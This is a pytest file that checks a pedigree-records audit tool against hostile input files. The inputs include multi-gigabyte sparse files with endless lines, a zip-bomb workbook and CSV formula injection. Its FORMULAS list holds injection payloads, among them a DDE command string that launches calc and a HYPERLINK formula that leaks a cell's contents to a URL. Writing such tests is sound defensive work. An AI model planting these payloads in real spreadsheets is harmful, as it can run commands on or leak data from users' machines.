"""Files made to do harm, given to the installed program: refused, or read as text."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import threading
from contextlib import suppress
from typing import TYPE_CHECKING

import openpyxl
import pytest

from pairing.errors import RecordsError
from pairing.records.readers import read_records, read_table
from tests.fuzz.journey import in_time
from tests.test_commands import ENVIRONMENT, PROGRAM, Result, run
from tests.test_workbooks import HEADER, saved, squeezed, with_stated_size, workbook

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable
    from pathlib import Path

GIGABYTE = 1_000_000_000
MEMORY = 2 * GIGABYTE
"""What the program may take, libraries included: less than the files it is given."""

TOO_LONG = "the line is longer than 50,000,000 bytes."
SHORT = {"OPENBLAS_NUM_THREADS": "1", "OMP_NUM_THREADS": "1"}

FORMULAS = (
    '=HYPERLINK("http://example.org/?"&A1;"see")',
    "=1+1",
    "@SUM(A1:A9)",
    "+1+1",
    "-2+3",
    "＝1+1",
    " =1+1",
    "\t=1+1",
    "=cmd|'/C calc'!A0",
)
NUMBERS = ("+1", "-12", "-0.5", "1e5", "007")


@pytest.fixture
def limited() -> Callable[[], None]:
    """Sets the memory that a program about to start may take."""
    resource = pytest.importorskip("resource")
    return lambda: resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY))


def fed(pieces: Iterable[bytes], limit: Callable[[], None]) -> Result:
    """The audit of standard input, which is written until nobody reads it any more."""
    program = subprocess.Popen(
        [*PROGRAM, "audit", "-"],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        env=ENVIRONMENT | SHORT,
        preexec_fn=limit,
    )
    assert program.stdin is not None

    def feed(pipe: io.BufferedIOBase) -> None:
        with suppress(BrokenPipeError), pipe:
            for piece in pieces:
                pipe.write(piece)

    pipe, program.stdin = program.stdin, None
    feeder = threading.Thread(target=feed, args=(pipe,))
    feeder.start()
    out, err = program.communicate(timeout=120)
    feeder.join()
    return Result(program.returncode, out.decode(), err.decode())


def audited(path: Path, limit: Callable[[], None]) -> Result:
    """The audit of a file by a program of little memory."""
    done = subprocess.run(
        [*PROGRAM, "audit", str(path)],
        capture_output=True,
        check=False,
        env=ENVIRONMENT | SHORT,
        preexec_fn=limit,
        timeout=120,
    )
    return Result(done.returncode, done.stdout.decode(), done.stderr.decode())


def refused(result: Result) -> list[str]:
    """What a refusal says, line by line."""
    assert result.status == 2, result
    assert result.out == ""
    assert "Traceback" not in result.err
    return result.err.splitlines()


def sparse(path: Path, beginning: bytes, size: int) -> Path:
    """A file that begins so and goes on with nothing to this size, without filling the disk."""
    with path.open("wb") as file:
        file.write(beginning)
        file.truncate(size)
    if path.stat().st_blocks * 512 > GIGABYTE // 10:
        pytest.skip("this disk keeps no sparse files")
    return path


# Size


@pytest.mark.slow
@pytest.mark.parametrize(
    ("beginning", "line"),
    [
        (b"id,sire,dam\nA,,\nB,", 3),
        (b"id,sire,dam\rA,,\rB,", 3),
        (b'id,sire,dam\r\nA,,"', 2),
        (b"id,sire,dam", 1),
        (b"\xff\xfei\x00d\x00", 1),
        (b"", 1),
    ],
)
def test_line_of_three_gigabytes_is_refused(
    tmp_path: Path, limited: Callable[[], None], beginning: bytes, line: int
) -> None:
    """A file with an endless line is refused, naming the line, before it fills the memory."""
    path = sparse(tmp_path / "herd.csv", beginning, 3 * GIGABYTE)
    said = refused(audited(path, limited))
    assert said[0] == f"herd.csv, line {line}: {TOO_LONG}"


@pytest.mark.slow
def test_endless_line_in_a_pipe_is_refused(limited: Callable[[], None]) -> None:
    """Letters without end on standard input are refused, and no longer read."""
    piece = b"A" * 1_000_000
    written = 0

    def pieces() -> Iterable[bytes]:
        nonlocal written
        yield b"id,sire,dam\nA,,\n"
        for _piece in range(2_000):
            yield piece
            written += len(piece)

    said = refused(fed(pieces(), limited))
    assert said[0] == f"standard input, line 3: {TOO_LONG}"
    assert written < GIGABYTE // 2


@pytest.mark.slow
@pytest.mark.parametrize("beginning", [b"PK\x03\x04", b"PAR1"])
def test_endless_workbook_is_refused(
    tmp_path: Path, limited: Callable[[], None], beginning: bytes
) -> None:
    """What begins as a workbook or Parquet file is read up to a gigabyte and no further."""
    path = sparse(tmp_path / "herd.xlsx", beginning, 3 * GIGABYTE)
    said = refused(audited(path, limited))
    assert said[0] == "herd.xlsx: the file is larger than 1,000,000,000 bytes."


def test_text_beyond_the_largest_size_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Text of ordinary lines is refused where it is larger than any herdbook."""
    path = tmp_path / "herd.csv"
    path.write_bytes(b"id,sire,dam\n" + b"A,,\n" * 1_000_000)
    assert len(read_table(path).lines) == 1_000_000
    monkeypatch.setattr("pairing.records.readers._MOST_TEXT", 3_000_000)
    with pytest.raises(RecordsError, match=r"herd.csv: the file is larger than 3,000,000 bytes\."):
        read_table(path)


def test_large_file_is_read_as_it_is(tmp_path: Path) -> None:
    """A file of many pieces comes back byte by byte, also through a named pipe."""
    rows = b"".join(b"F%d,F%d,F%d\r\n" % (n, n // 2, n // 3) for n in range(200_000))
    content = b"id,sire,dam\r\n" + rows
    path = tmp_path / "herd.csv"
    path.write_bytes(content)
    expected = read_table("-", stdin=content)
    assert read_table(path).sha256 == expected.sha256
    if not hasattr(os, "mkfifo"):
        return
    pipe = tmp_path / "pipe.csv"
    os.mkfifo(pipe)
    feeder = threading.Thread(target=pipe.write_bytes, args=(content,))
    feeder.start()
    assert read_table(pipe).sha256 == expected.sha256
    feeder.join()


@pytest.mark.slow
def test_cell_that_is_never_closed_takes_no_memory(limited: Callable[[], None]) -> None:
    """A quotation mark that swallows two hundred megabytes of rows is refused with its line."""
    rows = b"B,A,A\n" * 100_000
    said = refused(fed([b'id,sire,dam\nA,,\nB,"\n', *[rows] * 330], limited))
    assert said[0].startswith("standard input, line 3: the row cannot be read")


@pytest.mark.parametrize("line", ["#", "", "# id", "  "])
def test_many_lines_above_the_header_take_no_time(line: str) -> None:
    """Half a million comments or blank lines before the header are passed over quickly."""
    text = f"{line}\n" * 500_000 + "id,sire,dam\nA,,\n"
    with in_time():
        records = read_records("-", stdin=text.encode())
    assert list(records.lines) == [500_002]


@pytest.mark.parametrize("lying", [False, True])
def test_zip_bomb_is_refused(tmp_path: Path, limited: Callable[[], None], lying: bool) -> None:
    """A workbook that unpacks to far more than it is, said or not, is refused in little memory."""
    content = squeezed(workbook(Animals=[[*HEADER], ["A"]]), "xl/media/image1.png", 150)
    path = tmp_path / "herd.xlsx"
    path.write_bytes(with_stated_size(content, 1000) if lying else content)
    said = refused(audited(path, limited))
    assert said[0] == ("herd.xlsx: the file unpacks to far more than a table of animals can need.")


# Formulas


def with_formulas(path: Path) -> list[str]:
    """Records in which every text that might run stands in a field and in a column of notes."""
    texts = [*FORMULAS, *NUMBERS]
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["id", "sire", "dam", "sex", "holder", "note"])
        writer.writerows([f"A{n}", "", "", "f", text, text] for n, text in enumerate(texts))
        writer.writerow(["=2+3", "", "", "=4+5", "", ""])
    return texts


def test_formulas_stay_text_in_the_view(tmp_path: Path) -> None:
    """CSV gives back what the records say, letter by letter."""
    records, view = tmp_path / "herd.csv", tmp_path / "view.csv"
    texts = with_formulas(records)
    done = run("audit", records, "--view", view)
    assert done.status == 0, done.err
    header, *rows = csv.reader(io.StringIO(view.read_bytes().decode()))
    assert [row[header.index("note")] for row in rows[:-1]] == texts
    holders = [" ".join(text.replace("＝", "=").split()) for text in texts]
    assert [row[header.index("holder")] for row in rows[:-1]] == holders
    assert rows[-1][header.index("id")] == "=2+3"


def test_formulas_are_harmless_for_a_spreadsheet(tmp_path: Path) -> None:
    """With --for-spreadsheet no cell of CSV begins as a formula does, and plain numbers stay."""
    records, view = tmp_path / "herd.csv", tmp_path / "view.csv"
    texts = with_formulas(records)
    done = run("audit", records, "--for-spreadsheet", "--view", view, "--format", "csv")
    assert done.status == 0, done.err
    header, *rows = csv.reader(io.StringIO(view.read_bytes().decode()))
    notes = [row[header.index("note")] for row in rows[:-1]]
    assert notes == [f"'{text}" if text in FORMULAS else text for text in texts]
    assert rows[-1][header.index("id")] == "'=2+3"
    cells = [cell for row in [*rows, *done.table] for cell in row]
    assert "'=4+5" in cells
    runs = [cell for cell in cells if cell.lstrip()[:1] in tuple("=+-@＝")]
    assert set(runs) <= set(NUMBERS)


def test_findings_about_formulas_are_exact(tmp_path: Path) -> None:
    """A finding in plain CSV says what was found as it stands in the records."""
    records = tmp_path / "herd.csv"
    with_formulas(records)
    done = run("audit", records, "--format", "csv")
    header, *rows = done.table
    found = {row[header.index("found")]: row[header.index("id")] for row in rows}
    assert found["=4+5"] == "=2+3"


def test_formulas_are_text_in_workbooks(tmp_path: Path) -> None:
    """A workbook holds every formula-like text as text, in the view and among the findings."""
    records, view, out = (tmp_path / name for name in ("herd.csv", "view.xlsx", "findings.xlsx"))
    texts = with_formulas(records)
    done = run("audit", records, "--view", view, "--out", out)
    assert done.status == 0, done.err
    sheet = openpyxl.load_workbook(view).active
    header = [cell.value for cell in sheet[1]]
    notes = [row[header.index("note")] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in notes[:-1]] == texts
    for path in (view, out):
        for page in openpyxl.load_workbook(path):
            kinds = {cell.data_type for row in page.iter_rows() for cell in row}
            assert "f" not in kinds
            assert page.title


def test_formulas_of_a_workbook_are_not_worked_out(tmp_path: Path) -> None:
    """An id or sex that is a formula without a saved value is blank, and that is said."""
    book = openpyxl.Workbook()
    rows = [("id", "sire", "dam", "sex"), ("=1+1", None, None, "f"), ("A", None, None, "=B1")]
    for row in rows:
        book.active.append(row)
    path = tmp_path / "herd.xlsx"
    path.write_bytes(saved(book))
    done = run("audit", path, "--format", "json")
    assert done.status == 0, done.err
    findings = done.document["findings"]
    assert [each["row"] for each in findings if each["kind"] == "missing-id"] == [2]
    assert done.document["animals"] == 1
    assert "2 formulas saved without a value read as blank (first: A2)" in done.err
